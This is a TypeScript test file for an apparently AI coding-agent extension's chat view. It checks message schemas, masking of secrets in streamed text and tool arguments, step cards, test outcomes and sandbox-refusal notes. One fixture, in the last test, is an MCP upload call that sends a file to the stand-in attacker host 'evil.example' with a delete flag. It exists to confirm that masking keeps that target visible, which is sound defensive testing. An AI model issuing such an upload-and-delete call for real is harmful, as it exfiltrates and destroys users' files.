import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { AgentEvent } from '../../../core/agent/loop';
import { ToWebview } from '../../../core/protocol/chat';
import { EventsToView } from '../../../extension/agent/events-to-view';
import { maskUrlsIn } from '../../../core/secrets/endpoint';

const mask = (t: string) => t.replaceAll('sk-SECRET', '***');
const view = () => new EventsToView({ mask, expectExitCode: 0, runFile: 'run-1.lar.jsonl' });

function step(status: string, extra: { checkpoint?: string } = {}): AgentEvent {
  return {
    kind: 'step',
    line: 4,
    text: '{}',
    event: {
      type: 'tool_call',
      id: 'call-1',
      tool: 'run_command',
      args: { command: 'echo sk-SECRET' },
      status,
      result: {},
      at: '2026-01-01T00:00:00Z',
      ...extra,
    } as never,
    result: { line: 4, type: 'tool_call', step: 1, tool: 'run_command', verdicts: [], runningReturn: 0 } as never,
    gate: { decision: 'allow', verdicts: [], toolReward: 0 } as never,
  };
}

test('every message the chat is sent is one the webview accepts', () => {
  const v = view();
  const events: AgentEvent[] = [
    { kind: 'request' },
    { kind: 'toolStart', id: 'call-1', tool: 'run_command', args: { command: 'ls' } },
    { kind: 'text', delta: 'hi' },
    { kind: 'reasoning', delta: 'hmm' },
    { kind: 'retract', text: 'hi' },
    { kind: 'context', used: 10.4, window: 100, source: 'default', completionTokens: -1 },
    { kind: 'message', line: 3, text: JSON.stringify({ role: 'assistant', content: 'done' }) },
    step('ok'),
    {
      kind: 'outcome',
      line: 5,
      text: '{}',
      event: { type: 'outcome', command: 'npm test', exitCode: 0, output: ' ok \n' },
    },
  ];
  for (const e of events)
    for (const m of v.map(e)) assert.equal(ToWebview.safeParse(m).success, true, JSON.stringify(m));
});

test('a secret never reaches the chat: streamed text, reasoning, arguments, steps and check output are masked', () => {
  const v = view();
  const sent = [
    ...v.map({ kind: 'text', delta: 'key sk-SECRET' }),
    ...v.map({ kind: 'reasoning', delta: 'sk-SECRET' }),
    ...v.map({ kind: 'toolStart', id: 'c', tool: 'run_command', args: { command: 'curl -H sk-SECRET' } }),
    ...v.map(step('ok')),
    ...v.map({
      kind: 'outcome',
      line: 5,
      text: '{}',
      event: { type: 'outcome', command: 'check', exitCode: 1, output: 'sk-SECRET' },
    }),
  ];
  assert.equal(sent.length, 5);
  assert.ok(!JSON.stringify(sent).includes('sk-SECRET'));
});

test('a retract moves exactly what was streamed of the answer, as the chat received it', () => {
  const v = view();
  v.map({ kind: 'text', delta: 'a sk-SECRET' });
  v.map({ kind: 'text', delta: 'b' });
  assert.deepEqual(v.map({ kind: 'retract', text: '' }), [{ type: 'retract', chars: 'a ***b'.length }]);
  assert.deepEqual(v.map({ kind: 'retract', text: '' }), [{ type: 'retract', chars: 0 }]);
  v.map({ kind: 'text', delta: 'abc' });
  v.map({ kind: 'message', line: 3, text: JSON.stringify({ role: 'assistant', content: 'abc' }) });
  assert.deepEqual(v.map({ kind: 'retract', text: '' }), [{ type: 'retract', chars: 0 }], 'a finished answer is kept');
  v.map({ kind: 'text', delta: 'abc' });
  v.map(step('ok'));
  assert.deepEqual(v.map({ kind: 'retract', text: '' }), [{ type: 'retract', chars: 0 }]);
});

test("the model's finished reply is shown with its reasoning; other messages are not", () => {
  const v = view();
  assert.deepEqual(
    v.map({ kind: 'message', line: 3, text: JSON.stringify({ role: 'assistant', content: 'x', reasoning: 'r' }) }),
    [{ type: 'assistant', text: 'x', reasoning: 'r' }],
  );
  assert.deepEqual(v.map({ kind: 'message', line: 3, text: JSON.stringify({ role: 'user', content: 'x' }) }), []);
});

test('a step carries the file its tool wrote, its checkpoint and its run; a failed step carries no change', () => {
  const v = view();
  v.wrote({ id: 'c1', path: 'src/a.ts', created: true });
  const [first] = v.map(step('ok', { checkpoint: 'abc123' }));
  assert.ok(first?.type === 'step');
  assert.deepEqual(first.card.change, { id: 'c1', path: 'src/a.ts', created: true });
  assert.equal(first.card.checkpoint, 'abc123');
  assert.equal(first.card.run, 'run-1.lar.jsonl');
  const [second] = v.map(step('ok'));
  assert.ok(second?.type === 'step');
  assert.equal(second.card.change, undefined, 'a write belongs to one step only');
  v.wrote({ id: 'c2', path: 'b.ts', created: false });
  const [failed] = v.map(step('error'));
  assert.ok(failed?.type === 'step');
  assert.equal(failed.card.change, undefined);
  const [after] = v.map(step('ok'));
  assert.ok(after?.type === 'step');
  assert.equal(after.card.change, undefined, 'nor does a failed step leave its write to the next');
});

test("the outcome passes on the workflow's exit code, and not when the test runner ran no tests", () => {
  const v = view();
  const outcome = (exitCode: number, testsRan?: number) =>
    v.map({
      kind: 'outcome',
      line: 5,
      text: '{}',
      event: {
        type: 'outcome',
        command: 'npm test',
        exitCode,
        output: '  out  ',
        ...(testsRan !== undefined ? { testsRan } : {}),
      },
    })[0];
  assert.deepEqual(outcome(0), { type: 'outcome', command: 'npm test', exitCode: 0, passed: true, excerpt: 'out' });
  assert.equal((outcome(1) as { passed: boolean }).passed, false);
  assert.equal((outcome(0, 0) as { passed: boolean }).passed, false);
});

test("an MCP call's live card names the server and the tool; the run's MCP lines are the MCP list's, not posted here", () => {
  const v = view();
  assert.deepEqual(v.map({ kind: 'toolStart', id: 'c7', tool: 'mcp__everything__echo', args: { message: 'hi' } }), [
    {
      type: 'toolStarted',
      id: 'c7',
      tool: 'mcp__everything__echo',
      args: '{"message":"hi"}',
      mcp: { server: 'everything', tool: 'echo' },
    },
  ]);
  assert.deepEqual(v.map({ kind: 'mcpNotes', notes: ['MCP server "x" stopped'] }), []);
});

test('events the chat does not show post nothing', () => {
  const v = view();
  assert.deepEqual(v.map({ kind: 'header', line: 1, text: '{}' }), []);
  assert.deepEqual(v.map({ kind: 'end', line: 9, text: '{}', reason: 'done' }), []);
});

test('a sandboxed command the sandbox refused says so on its card, with its exit code, not a bare "ok"', () => {
  const v = view();
  v.confinedBy({ confined: true, network: 'none', protections: [{ path: 'test', why: 'workflow' }] }, '/ws');
  const refused = (output: string, sandboxed = true): AgentEvent => {
    const e = step('ok') as AgentEvent & { kind: 'step' };
    return { ...e, event: { ...e.event, result: { exitCode: 1, output, sandboxed } } };
  };
  const card = (e: AgentEvent) => {
    const [m] = v.map(e);
    assert.equal(m?.type, 'step');
    return m.card;
  };
  const ro = card(refused("touch: cannot touch 'test/a.js': Read-only file system"));
  assert.equal(ro.status, 'exit 1');
  assert.match(ro.sandboxNote ?? '', /test is read-only \(protected by the workflow\)/);
  assert.match(card(refused('getaddrinfo EAI_AGAIN registry.npmjs.org')).sandboxNote ?? '', /the network is off/);
  // An unconfined command's failure is its own.
  assert.equal(card(refused('getaddrinfo EAI_AGAIN registry.npmjs.org', false)).sandboxNote, undefined);
  assert.equal(card(step('ok')).status, 'ok');
});

test("a tool call's live card masks each argument on its own: no key of what runs is lost to a mask", () => {
  // A URL's user-info mask crosses quotes: run over the JSON text it ate the next key (`target`).
  const v = new EventsToView({ mask: maskUrlsIn, expectExitCode: 0, runFile: 'run-1.lar.jsonl' });
  const args = { path: 'notes.txt', url: 'x://', target: '@evil.example/upload', delete: true };
  const [card] = v.map({ kind: 'toolStart', id: 'c8', tool: 'mcp__files__upload', args });
  const shown = JSON.parse((card as { args: string }).args) as Record<string, unknown>;
  assert.deepEqual(Object.keys(shown), Object.keys(args));
  assert.equal(shown.target, '@evil.example/upload');
});
